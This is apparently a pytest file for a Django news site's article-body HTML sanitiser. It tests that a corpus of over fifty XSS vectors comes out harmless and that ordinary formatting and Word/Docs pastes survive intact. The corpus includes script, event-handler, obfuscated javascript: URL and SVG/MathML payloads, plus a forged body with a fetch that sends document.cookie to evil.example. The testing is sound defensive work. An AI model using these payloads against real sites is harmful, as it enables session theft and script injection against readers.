"""What reaches a reader from an article's body, whatever was pasted, imported or forged.

The admin edits the body with a rich-text editor; the server keeps only an allow-list of
tags, attributes and URL schemes (articles/html.py). Known XSS vectors must come out
harmless, and ordinary formatting must come out exactly as written.
"""

import json
import posixpath
import re
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from django.conf import settings
from django.contrib.staticfiles import finders
from django.test import Client
from django.urls import reverse

from articles.editor import ArticleBodyField
from articles.html import has_empty_link, sanitize

from .helpers import elements, inline_code, page_text

# What a reader's browser may receive in a body. Spelled out here rather than imported,
# so that widening the sanitiser's allow-list has to get past this test.
READER_TAGS = {"p", "br", "h2", "h3", "strong", "em", "a", "ul", "ol", "li", "blockquote"}
READER_ATTRIBUTES = {"a": {"href", "title", "rel"}, "ol": {"start"}}
SAFE_SCHEMES = {"http", "https", "mailto"}

WORD_PASTE = """
<html xmlns:o="urn:schemas-microsoft-com:office:office"
xmlns:w="urn:schemas-microsoft-com:office:word">
<head><meta charset="utf-8"><meta name=ProgId content=Word.Document>
<!--[if gte mso 9]><xml><o:OfficeDocumentSettings><o:AllowPNG/>
</o:OfficeDocumentSettings></xml><![endif]-->
<style><!-- p.MsoNormal {mso-style-parent:""; margin:0cm; font-size:11.0pt;} --></style>
</head>
<body lang=FR style='tab-interval:35.4pt;word-wrap:break-word'>
<!--StartFragment-->
<p class=MsoNormal style='mso-margin-top-alt:auto'><span lang=FR
style='font-family:"Calibri",sans-serif;mso-fareast-language:FR'>Le groupe signe avec
trois hébergeurs.<o:p></o:p></span></p>
<p class=MsoNormal><o:p>&nbsp;</o:p></p>
<p class=MsoListParagraph style='mso-list:l0 level1 lfo1'><![if !supportLists]><span
style='mso-list:Ignore'>1.</span><![endif]><span lang=FR>Les premiers clients
arrivent en mars.</span><o:p></o:p></p>
<!--EndFragment-->
</body></html>
"""

DOCS_PASTE = (
    '<meta charset="utf-8"><b style="font-weight:normal;" '
    'id="docs-internal-guid-5e3c1a2b-7fff-4a1e-9c0d-0123456789ab">'
    '<p dir="ltr" style="line-height:1.38;margin-top:0pt;margin-bottom:0pt;">'
    '<span style="font-size:11pt;font-family:Arial,sans-serif;color:#000000;'
    "background-color:transparent;font-weight:400;font-style:normal;"
    'vertical-align:baseline;white-space:pre;white-space:pre-wrap;">'
    "La région ouvrira en juin.</span></p><br />"
    '<p dir="ltr" style="line-height:1.38;margin-top:0pt;margin-bottom:0pt;">'
    '<span style="font-size:11pt;font-family:Arial,sans-serif;font-weight:700;">'
    'Trois zones</span><span style="font-size:11pt;">, selon l’entreprise.</span></p>'
    '<ul style="margin-top:0;margin-bottom:0;padding-inline-start:48px;">'
    '<li dir="ltr" style="list-style-type:disc;font-size:11pt;" aria-level="1">'
    '<p dir="ltr" role="presentation" style="line-height:1.38;">'
    '<span style="font-size:11pt;">Paris</span></p></li></ul></b>'
    '<br class="Apple-interchange-newline">'
)

XSS_CORPUS = [
    # Script and style elements
    pytest.param("<script>alert(1)</script>", id="script"),
    pytest.param("<SCRIPT SRC=//evil.example/x.js></SCRIPT>", id="script-src-uppercase"),
    pytest.param("<scr<script>ipt>alert(1)</scr</script>ipt>", id="script-split-in-two"),
    pytest.param("<p>Texte<script>alert(1)", id="script-unclosed"),
    pytest.param('<style>p{background:url("javascript:alert(1)")}</style>', id="style"),
    pytest.param('<p style="background:url(javascript:alert(1))">x</p>', id="style-attribute"),
    pytest.param('<p style="width: expression(alert(1))">x</p>', id="style-expression"),
    pytest.param('<link rel="stylesheet" href="https://evil.example/x.css">', id="link"),
    # Event handler attributes
    pytest.param("<img src=x onerror=alert(1)>", id="img-onerror"),
    pytest.param('<p onclick="alert(1)">Cliquez</p>', id="p-onclick"),
    pytest.param("<body onload=alert(1)>", id="body-onload"),
    pytest.param('<a href="https://ok.example/" onmouseover="alert(1)">x</a>', id="a-onmouseover"),
    pytest.param("<details open ontoggle=alert(1)>x</details>", id="details-ontoggle"),
    pytest.param("<p/onpointerenter=alert(1)>x</p>", id="slash-separated-handler"),
    pytest.param("<strong ONFOCUS=alert(1) tabindex=0 autofocus>x</strong>", id="autofocus"),
    # Dangerous URL schemes, plain and obfuscated
    pytest.param('<a href="javascript:alert(1)">x</a>', id="javascript-url"),
    pytest.param('<a href="JaVaScRiPt:alert(1)">x</a>', id="javascript-url-mixed-case"),
    pytest.param(
        '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
        id="javascript-url-decimal-entities",
    ),
    pytest.param('<a href="&#x6A;avascript&colon;alert(1)">x</a>', id="javascript-url-hex"),
    pytest.param('<a href="java\tscript:alert(1)">x</a>', id="javascript-url-tab"),
    pytest.param('<a href="java&#x0A;script:alert(1)">x</a>', id="javascript-url-newline"),
    pytest.param('<a href=" \x01javascript:alert(1)">x</a>', id="javascript-url-leading-junk"),
    pytest.param('<a href="vbscript:msgbox(1)">x</a>', id="vbscript-url"),
    pytest.param(
        '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
        id="data-url-base64",
    ),
    pytest.param('<a href="data:text/html,<script>alert(1)</script>">x</a>', id="data-url"),
    # SVG and MathML
    pytest.param("<svg onload=alert(1)>", id="svg-onload"),
    pytest.param("<svg><script>alert(1)</script></svg>", id="svg-script"),
    pytest.param(
        '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
        id="svg-xlink",
    ),
    pytest.param(
        '<svg><animate href="#x" attributeName="href" values="javascript:alert(1)"/></svg>',
        id="svg-animate",
    ),
    pytest.param(
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        id="mathml-mutation",
    ),
    pytest.param('<math href="javascript:alert(1)">x</math>', id="mathml-href"),
    # Frames, plugins, forms
    pytest.param('<iframe src="javascript:alert(1)"></iframe>', id="iframe"),
    pytest.param('<iframe srcdoc="<script>alert(1)</script>"></iframe>', id="iframe-srcdoc"),
    pytest.param('<object data="javascript:alert(1)"></object>', id="object"),
    pytest.param('<embed src="data:image/svg+xml;base64,PHN2Zz4=">', id="embed"),
    pytest.param('<form action="javascript:alert(1)"><button>Envoyer</button></form>', id="form"),
    pytest.param('<button formaction="javascript:alert(1)">x</button>', id="formaction"),
    pytest.param("<input autofocus onfocus=alert(1)>", id="input-onfocus"),
    # Page-level takeovers
    pytest.param(
        '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">', id="meta-refresh"
    ),
    pytest.param('<base href="javascript:alert(1)//">', id="base"),
    # Broken and unclosed markup
    pytest.param("<img src=x onerror=alert(1)//<p>Suite</p>", id="unclosed-tag-eats-the-next"),
    pytest.param('<p title="x></p><img src=x onerror=alert(1)>', id="unclosed-attribute"),
    pytest.param("<<script>alert(1)//<</script>", id="double-open"),
    pytest.param('<a href="https://ok.example/" <script>alert(1)</script>', id="unclosed-tag"),
    pytest.param('"><script>alert(1)</script>', id="attribute-breakout"),
    pytest.param(
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', id="noscript-mutation"
    ),
    pytest.param("<template><script>alert(1)</script></template>", id="template"),
    # Comments and CDATA
    pytest.param("<!--<script>alert(1)</script>-->", id="comment"),
    pytest.param(
        "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->", id="conditional-comment"
    ),
    pytest.param("<![CDATA[<script>alert(1)</script>]]>", id="cdata"),
    pytest.param("<!-- --!><script>alert(1)</script> -->", id="comment-bang-close"),
    pytest.param("<?xml-stylesheet href='javascript:alert(1)'?>", id="processing-instruction"),
    # Office and Docs paste junk
    pytest.param(WORD_PASTE, id="word-paste"),
    pytest.param(DOCS_PASTE, id="google-docs-paste"),
]


class _Markup(HTMLParser):
    """Every tag, attribute and other markup in a fragment, entities decoded."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.other: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))

    def handle_endtag(self, tag):
        self.tags.append((tag, []))

    def handle_comment(self, data):
        self.other.append(f"<!--{data}-->")

    def handle_decl(self, decl):
        self.other.append(f"<!{decl}>")

    def unknown_decl(self, data):
        self.other.append(f"<![{data}]>")

    def handle_pi(self, data):
        self.other.append(f"<?{data}>")


def is_safe_url(url: str) -> bool:
    # Browsers skip ASCII whitespace and control characters in a URL's scheme.
    scheme = urlsplit(re.sub(r"[\x00-\x20]", "", url)).scheme.lower()
    return scheme in SAFE_SCHEMES or not scheme


def dangers(html: str) -> list[str]:
    """Whatever in `html` is outside what readers may receive: tags, attributes, schemes."""
    markup = _Markup()
    markup.feed(html)
    markup.close()
    found = list(markup.other)
    for tag, attributes in markup.tags:
        if tag not in READER_TAGS:
            found.append(f"<{tag}>")
        for name, value in attributes:
            if name not in READER_ATTRIBUTES.get(tag, set()):
                found.append(f"<{tag} {name}>")
            elif name == "href" and not is_safe_url(value or ""):
                found.append(f"<{tag} href={value!r}>")
    return found


def squeeze(html: str) -> str:
    """Markup without the line breaks a pasted document puts between tags."""
    return re.sub(r">\s+<", "><", html)


# --- The XSS corpus -------------------------------------------------------------------


def test_the_corpus_covers_at_least_thirty_vectors():
    assert len(XSS_CORPUS) >= 30


@pytest.mark.parametrize("attack", XSS_CORPUS)
def test_every_known_xss_vector_reaches_readers_harmless(attack):
    clean = sanitize(attack)
    assert dangers(clean) == []
    assert sanitize(clean) == clean  # stable: nothing left to rewrite on a second pass


@pytest.mark.parametrize("attack", XSS_CORPUS)
def test_the_harm_check_sees_the_danger_in_every_raw_vector(attack):
    assert dangers(attack) != []


def test_script_tag_never_reaches_readers():
    dirty = "<p>Avant</p><script>document.location='https://evil.example/'</script><p>Après</p>"
    assert sanitize(dirty) == "<p>Avant</p><p>Après</p>"


def test_event_handlers_are_dropped_and_the_text_kept():
    assert sanitize('<p onclick="alert(1)">Cliquez <em onmouseover="x()">ici</em></p>') == (
        "<p>Cliquez <em>ici</em></p>"
    )


@pytest.mark.parametrize(
    "href",
    [
        "javascript:alert(1)",
        "&#106;avascript:alert(1)",
        "java\tscript:alert(1)",
        "vbscript:msgbox(1)",
        "data:text/html,<script>alert(1)</script>",
    ],
)
def test_a_dangerous_link_loses_its_address_and_counts_as_an_empty_link(href):
    clean = sanitize(f'<p><a href="{href}">Lire la suite</a></p>')
    assert clean == '<p><a rel="noopener noreferrer">Lire la suite</a></p>'
    assert has_empty_link(clean)


def test_frames_svg_and_mathml_go_with_their_content():
    dirty = (
        "<p>Début</p><iframe>Cadre</iframe><svg><text>Dessin</text></svg>"
        "<math><mi>x</mi></math><p>Fin</p>"
    )
    assert sanitize(dirty) == "<p>Début</p><p>Fin</p>"


# --- Ordinary formatting --------------------------------------------------------------


@pytest.mark.parametrize(
    "html",
    [
        "<p>Un paragraphe, avec des « guillemets » et l’apostrophe.</p>",
        "<h2>Ce que cela change</h2><h3>Pour les entreprises</h3>",
        "<p>Du <strong>gras</strong> et de l’<em>italique</em>.</p>",
        "<ul><li><p>Paris</p></li><li><p>Marseille</p></li></ul>",
        "<ol><li><p>D’abord</p></li><li><p>Ensuite</p></li></ol>",
        '<ol start="3"><li>Troisième point</li></ol>',
        "<blockquote><p>La demande a doublé en un an.</p></blockquote>",
        "<p>Première ligne<br>Seconde ligne</p>",
        "<p>Moins &lt; plus &amp; égal</p>",
    ],
)
def test_ordinary_formatting_survives_exactly(html):
    assert sanitize(html) == html


@pytest.mark.parametrize(
    "href",
    [
        "https://www.example.fr/annonce?id=3&amp;lang=fr",
        "http://example.fr/",
        "mailto:redaction@example.fr",
        "/articles/azure-ouvre-une-region/",
    ],
)
def test_links_keep_their_address_and_get_a_safe_rel(href):
    html = f'<p><a href="{href}" title="Le communiqué">communiqué</a></p>'
    assert sanitize(html) == (
        f'<p><a href="{href}" title="Le communiqué" rel="noopener noreferrer">communiqué</a></p>'
    )


def test_what_the_editor_writes_is_stored_as_written():
    # As the editor in the admin serialises a body, link dialog left without a title.
    written = (
        "<h2>Un intertitre</h2><p>Avec <strong>du gras</strong> et un "
        '<a href="https://www.example.fr/annonce" title="">lien</a>.</p>'
        "<ul><li><p>premier point</p></li><li><p>second point</p></li></ul>"
        "<blockquote><p>Une citation <em>en italique</em></p></blockquote>"
        "<ol><li><p>étape un</p></li></ol>"
    )
    assert sanitize(written) == written.replace(' title=""', ' rel="noopener noreferrer"')


def test_b_and_i_are_unwrapped_because_the_editor_writes_strong_and_em():
    assert sanitize("<p><b>Gras</b> et <i>italique</i></p>") == "<p>Gras et italique</p>"


def test_a_word_paste_comes_out_as_clean_paragraphs():
    assert squeeze(sanitize(WORD_PASTE)) == (
        "<p>Le groupe signe avec\ntrois hébergeurs.</p>"
        "<p>1.Les premiers clients\narrivent en mars.</p>"
    )


def test_a_google_docs_paste_comes_out_as_clean_paragraphs():
    assert sanitize(DOCS_PASTE) == (
        "<p>La région ouvrira en juin.</p><p>Trois zones, selon l’entreprise.</p>"
        "<ul><li><p>Paris</p></li></ul>"
    )


def test_empty_paragraphs_and_stray_line_breaks_between_blocks_are_removed():
    dirty = "<p>Un</p><br><p>&nbsp;</p><p> <br> </p><p></p><h2>Deux</h2><br>"
    assert sanitize(dirty) == "<p>Un</p><h2>Deux</h2>"


@pytest.mark.parametrize(
    ("html", "empty"),
    [
        ('<p><a href="https://example.fr/">Lire</a></p>', False),
        ('<p><a href="#">Lire</a></p>', True),
        ('<p><a href="https://example.fr/"> </a></p>', True),
        ("<p><a>Lire</a></p>", True),
    ],
)
def test_empty_links_are_still_found_in_sanitised_html(html, empty):
    assert has_empty_link(sanitize(html)) is empty


def test_the_editor_field_sanitises_before_the_form_validates():
    field = ArticleBodyField(required=False)
    assert field.clean('<p onclick="x()">Texte</p><script>x()</script>') == "<p>Texte</p>"


# --- Through the admin ------------------------------------------------------------------


class _FormFields(HTMLParser):
    """What a browser submits from one form of a page, as (name, value) pairs."""

    UNSENT_INPUTS = {"submit", "button", "image", "reset", "file"}

    def __init__(self, form_id):
        super().__init__(convert_charrefs=True)
        self.form_id = form_id
        self.fields: list[list[str]] = []
        self._in_form = False
        self._select = self._textarea = None

    def handle_starttag(self, tag, attrs):
        attrs = {name: value or "" for name, value in attrs}
        if tag == "form":
            self._in_form = attrs.get("id") == self.form_id
        name = attrs.get("name", "")
        if not self._in_form or "__prefix__" in name:
            return
        kind = attrs.get("type", "text")
        if tag == "input" and name and kind not in self.UNSENT_INPUTS:
            if kind not in {"checkbox", "radio"}:
                self.fields.append([name, attrs.get("value", "")])
            elif "checked" in attrs:
                self.fields.append([name, attrs.get("value", "on")])
        elif tag == "textarea" and name:
            self._textarea = [name, ""]
            self.fields.append(self._textarea)
        elif tag == "select":
            self._select = name
        elif tag == "option" and self._select and "selected" in attrs:
            self.fields.append([self._select, attrs.get("value", "")])

    def handle_endtag(self, tag):
        if tag == "form":
            self._in_form = False
        elif tag == "select":
            self._select = None
        elif tag == "textarea":
            if self._textarea:  # browsers drop the line break that opens a textarea
                self._textarea[1] = self._textarea[1].removeprefix("\n")
            self._textarea = None

    def handle_data(self, data):
        if self._textarea:
            self._textarea[1] += data


def change_form_data(response) -> dict[str, list[str]]:
    """The article change form as a browser would send it back, inlines included."""
    reader = _FormFields("article_form")
    reader.feed(response.text)
    data: dict[str, list[str]] = {}
    for name, value in reader.fields:
        data.setdefault(name, []).append(value)
    return data


FORGED_BODY = (
    '<p onclick="alert(1)">L’accord couvre <strong>trois</strong> centres de données.</p>'
    "<script>fetch('https://evil.example/?c=' + document.cookie)</script>"
    '<img src=x onerror="alert(2)"><iframe src="https://evil.example/"></iframe>'
    '<h2 style="color:red">Ce que cela change</h2>'
    '<p><a href="https://www.example.fr/accord" onmouseover="alert(3)">Le communiqué</a></p>'
    "<svg onload=alert(4)><text>svg</text></svg><!-- <script>alert(5)</script> -->"
)
FORGED_BODY_STORED = (
    "<p>L’accord couvre <strong>trois</strong> centres de données.</p>"
    "<h2>Ce que cela change</h2>"
    '<p><a href="https://www.example.fr/accord" rel="noopener noreferrer">Le communiqué</a></p>'
)


@pytest.mark.django_db
def test_a_forged_body_posted_through_the_admin_is_stored_and_shown_clean(
    editor_client, make_article, tag, source
):
    article = make_article(tags=[tag], sources=[source])
    url = reverse("admin:articles_article_change", args=[article.pk])
    data = change_form_data(editor_client.get(url))
    assert data["body"] == [article.body]  # the form as loaded, body included
    data |= {"body": [FORGED_BODY], "_save": ["Enregistrer"]}

    response = editor_client.post(url, data)

    assert response.status_code == 302, response.context and response.context["errors"]
    article.refresh_from_db()
    assert article.body == FORGED_BODY_STORED
    page = Client().get(article.get_absolute_url())
    assert page.status_code == 200
    assert "L’accord couvre trois centres de données." in page_text(page)
    assert inline_code(page) == []
    assert not any(
        "evil.example" in str(element.attrs) or "alert(" in element.text
        for element in elements(page, "script") + elements(page, "img")
    )
    assert "onclick" not in page.text and "onerror" not in page.text


@pytest.mark.django_db
def test_the_change_form_offers_the_editor_over_a_plain_textarea_of_html(
    editor_client, make_article
):
    article = make_article(body="<h2>Intertitre</h2><p>Un <em>paragraphe</em>.</p>")
    response = editor_client.get(reverse("admin:articles_article_change", args=[article.pk]))
    assert response.status_code == 200

    (textarea,) = [t for t in elements(response, "textarea") if t.attrs.get("name") == "body"]
    # Without JavaScript this is what an editor gets: the body's HTML, editable.
    assert textarea.text == article.body
    config = json.loads(textarea.attrs["data-django-prose-editor-article"])
    assert set(config["extensions"]) == {
        "Document",
        "Paragraph",
        "Text",
        "Heading",
        "Bold",
        "Italic",
        "Link",
        "BulletList",
        "OrderedList",
        "ListItem",
        "Blockquote",
        # Editing aids that write no markup: toolbar, undo, cursors.
        "Menu",
        "History",
        "Dropcursor",
        "Gapcursor",
    }
    assert config["extensions"]["Heading"] == {"levels": [2, 3]}
    modules = [s.attrs["src"] for s in elements(response, "script") if s.attrs.get("type")]
    assert modules == [settings.STATIC_URL + "js/article-editor.js"]
    # The policy allows no inline code, and the editor needs none.
    assert "'unsafe-inline'" not in response["Content-Security-Policy"]
    assert inline_code(response) == []


def referenced_files(path: str, text: str) -> list[str]:
    """Static files that a stylesheet or module loads by a relative address."""
    pattern = r"url\(\s*['\"]?([^'\")]+)" if path.endswith(".css") else r"from\s+\"([^\"]+)\""
    found = [ref for ref in re.findall(pattern, text) if not ref.startswith("data:")]
    return [posixpath.normpath(posixpath.join(posixpath.dirname(path), ref)) for ref in found]


@pytest.mark.django_db
def test_every_editor_asset_is_one_of_the_project_static_files(editor_client):
    response = editor_client.get(reverse("admin:articles_article_add"))
    urls = [s.attrs["src"] for s in elements(response, "script") if "src" in s.attrs]
    urls += [
        link.attrs["href"]
        for link in elements(response, "link")
        if link.attrs.get("rel") == "stylesheet"
    ]
    assert not [url for url in urls if urlsplit(url).scheme or urlsplit(url).netloc]

    pending = [
        url.removeprefix(settings.STATIC_URL) for url in urls if url.startswith(settings.STATIC_URL)
    ]
    assert {"js/article-editor.js", "css/article-editor.css"} <= set(pending)
    checked = set()
    while pending:
        path = pending.pop()
        if path in checked:
            continue
        checked.add(path)
        found = finders.find(path)
        assert found, f"{path} is not among the static files"
        # Stylesheets, and the project's own modules (the editor's bundle imports nothing).
        if path.endswith(".css") or path.startswith("js/"):
            with open(found, encoding="utf-8") as file:
                pending += referenced_files(path, file.read())
    assert "django_prose_editor/editor.js" in checked  # imported by js/article-editor.js
    assert "django_prose_editor/material-icons.woff2" in checked  # the toolbar's icons


def test_the_editor_re_spacing_a_body_is_not_a_change():
    field = ArticleBodyField()
    stored = "<p>Un paragraphe\nsur deux lignes.</p>\n<ul>\n<li>un point</li>\n</ul>"
    rewritten = "<p>Un paragraphe sur deux lignes.</p><ul><li><p>un point</p></li></ul>"
    assert not field.has_changed(stored, rewritten)
    assert field.has_changed(stored, rewritten.replace("deux", "trois"))
